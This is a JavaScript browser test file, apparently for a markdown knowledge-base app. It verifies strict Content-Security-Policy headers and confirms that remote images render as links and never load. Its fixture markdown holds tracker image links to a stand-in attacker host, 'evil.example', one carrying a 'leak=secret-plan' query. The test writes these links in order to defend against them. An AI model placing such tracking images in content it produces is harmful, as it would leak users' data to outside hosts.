import assert from "node:assert/strict";
import { before, describe } from "node:test";
import { previewContent, treeItem } from "../lib/browser.mjs";
import { ADMIN_USER } from "../lib/server.mjs";
import { withWorkspace } from "../lib/fixture.mjs";

const ROOT = `kb://users/${ADMIN_USER}/`;
// A 1×1 PNG.
const PIXEL = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
  "base64",
);
const TRACKER = "https://evil.example/pixel.png?leak=secret-plan";
const DOC = `# Images

![tracker](${TRACKER})

![protocol relative](//evil.example/p2.png)

![chart](chart.png)

![inline](data:image/png;base64,${PIXEL.toString("base64")})
`;

describe("content cannot phone home", { timeout: 120_000 }, () => {
  const foreign = [];
  const ws = withWorkspace({
    seed: async ({ api }) => {
      await api.mkdir(`${ROOT}pics/`);
      const form = new FormData();
      form.append("file", new Blob([DOC], { type: "text/markdown" }), "images.md");
      form.append("file", new Blob([PIXEL], { type: "image/png" }), "chart.png");
      await api(`/resources/upload?uri=${encodeURIComponent(`${ROOT}pics/`)}`, { method: "POST", body: form });
    },
    onPage: (p, { server }) => {
      const origin = new URL(server.baseURL).origin;
      // Every request the page makes, refused before it leaves if foreign.
      return p.context().route("**/*", (route) => {
        const url = route.request().url();
        if (url.startsWith("data:") || url.startsWith("blob:") || new URL(url).origin === origin) return route.continue();
        foreign.push(url);
        return route.abort();
      });
    },
  });
  let server;
  before(() => ({ server } = ws));

  ws.it(
    "serves the app with a strict content policy and it runs under it",
    async ({ page }) => {
      const res = await fetch(server.baseURL + "/");
      const csp = res.headers.get("content-security-policy") ?? "";
      for (const part of ["default-src 'self'", "script-src 'self'", "img-src 'self' data: blob:", "connect-src 'self'", "frame-ancestors 'none'"]) {
        assert.ok(csp.includes(part), `CSP ${csp} lacks ${part}`);
      }
      assert.ok(!csp.includes("unsafe-inline"), csp);
      assert.equal(res.headers.get("x-frame-options"), "DENY");
      assert.equal(res.headers.get("x-content-type-options"), "nosniff");
      assert.equal(res.headers.get("referrer-policy"), "no-referrer");
      // The app got past login under that policy: the tree is there.
      await treeItem(page, `${ROOT}Welcome.md`).waitFor();
    },
  );

  ws.it(
    "shows remote images as links with their address and loads only workspace images",
    async ({ page }) => {
      await treeItem(page, `${ROOT}pics/`).click();
      await treeItem(page, `${ROOT}pics/images.md`).click();
      const view = previewContent(page);
      await view.getByRole("heading", { level: 1, name: "Images" }).waitFor();
      const local = view.locator("img[data-workspace-image]");
      await local.waitFor();
      assert.match((await local.getAttribute("src")) ?? "", /^blob:/);
      assert.equal(await local.evaluate((img) => img.complete && img.naturalWidth), 1);
      const links = view.locator("[data-remote-image]");
      assert.equal(await links.count(), 2);
      assert.equal(await links.first().getAttribute("href"), TRACKER);
      assert.ok((await links.first().innerText()).includes(TRACKER), "the address is shown");
      const srcs = await view.locator("img").evaluateAll((imgs) => imgs.map((i) => i.getAttribute("src") ?? ""));
      assert.equal(srcs.length, 2, srcs.join(" "));
      for (const s of srcs) assert.match(s, /^(blob:|data:image\/png)/);
      assert.deepEqual(foreign, [], "no request left the origin");
      const cspErrors = page.consoleErrors.filter((e) => /Content Security Policy/i.test(e));
      assert.deepEqual(cspErrors, []);
    },
  );
});
